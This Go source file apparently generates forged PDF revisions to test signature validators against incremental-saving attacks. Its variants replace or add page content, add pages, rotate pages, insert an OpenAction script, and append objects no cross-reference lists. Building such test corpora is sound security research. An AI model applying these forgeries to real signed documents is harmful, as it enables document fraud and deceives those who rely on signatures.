package attack

import (
	"bytes"
	"fmt"

	"github.com/antinvn/antin/pdf"
)

const isa = "incremental_saving"

// incremental: a later revision brings other content, more or less well-formed.
func incremental() []Variant {
	return []Variant{
		{"isa-content", isa, "a page's content is replaced", true, func(f *forgery) ([]byte, error) {
			r, _, err := f.content()
			if err != nil {
				return nil, err
			}
			return f.revise(func(u *pdf.Update) error { return u.Set(r, stream(forged)) })
		}},
		{"isa-new-content", isa, "a page gets a new content stream", true, func(f *forgery) ([]byte, error) {
			p, err := f.page()
			if err != nil {
				return nil, err
			}
			return f.revise(func(u *pdf.Update) error {
				r := u.Add(stream(forged))
				return edited(u, p.Ref, func(d pdf.Dict) { d["Contents"] = r })
			})
		}},
		{"isa-page-added", isa, "a page is added", true, func(f *forgery) ([]byte, error) {
			p, err := f.page()
			if err != nil {
				return nil, err
			}
			return f.revise(func(u *pdf.Update) error {
				box := pdf.Array{int64(0), int64(0), int64(595), int64(842)}
				page := u.Add(pdf.Dict{"Type": pdf.Name("Page"), "Parent": p.Parent, "MediaBox": box, "Contents": u.Add(stream(forged))})
				return edited(u, p.Parent, func(d pdf.Dict) {
					kids, _ := d["Kids"].(pdf.Array)
					count, _ := d["Count"].(int64)
					d["Kids"], d["Count"] = append(pdf.Array{page}, kids...), count+1
				})
			})
		}},
		{"isa-page-turned", isa, "a page is turned", true, func(f *forgery) ([]byte, error) {
			p, err := f.page()
			if err != nil {
				return nil, err
			}
			return f.edit(p.Ref, func(d pdf.Dict) { d["Rotate"] = int64((p.Rotate + 180) % 360) })
		}},
		{"isa-open-action", isa, "opening the file runs a script", true, func(f *forgery) ([]byte, error) {
			return f.edit(f.doc.Latest().CatalogRef(), func(d pdf.Dict) {
				d["OpenAction"] = pdf.Dict{"S": pdf.Name("JavaScript"), "JS": pdf.String("app.alert(1)")}
			})
		}},
		{"isa-unlisted", isa, "an object is appended and no cross-reference lists it", true, func(f *forgery) ([]byte, error) {
			r, _, err := f.content()
			if err != nil {
				return nil, err
			}
			return appendForged(append(bytes.Clone(f.in), '\n'), r), nil
		}},
		{"isa-trailer-only", isa, "a trailer without cross-reference is appended", true, func(f *forgery) ([]byte, error) {
			return fmt.Appendf(bytes.Clone(f.in), "\ntrailer\n<</Root %s R>>\n%%%%EOF\n", f.doc.Latest().CatalogRef()), nil
		}},
		{"isa-unlisted-in-revision", isa, "a revision holds an object that it does not list", true, func(f *forgery) ([]byte, error) {
			r, _, err := f.content()
			if err != nil {
				return nil, err
			}
			hidden := appendForged(append(bytes.Clone(f.in), '\n'), r)
			return f.unlisting(hidden), nil
		}},
		{"isa-damaged", isa, "new content, and a cross-reference that has to be rebuilt", true, func(f *forgery) ([]byte, error) {
			r, _, err := f.content()
			if err != nil {
				return nil, err
			}
			return append(appendForged(append(bytes.Clone(f.in), '\n'), r), "startxref\n7\n%%EOF\n"...), nil
		}},
	}
}

func (f *forgery) size() int64 {
	n, _ := f.doc.Latest().Trailer()["Size"].(int64)
	return n
}

func (f *forgery) lastXRef() int64 {
	all := f.doc.Revisions()
	return all[len(all)-1].XRefOffset
}
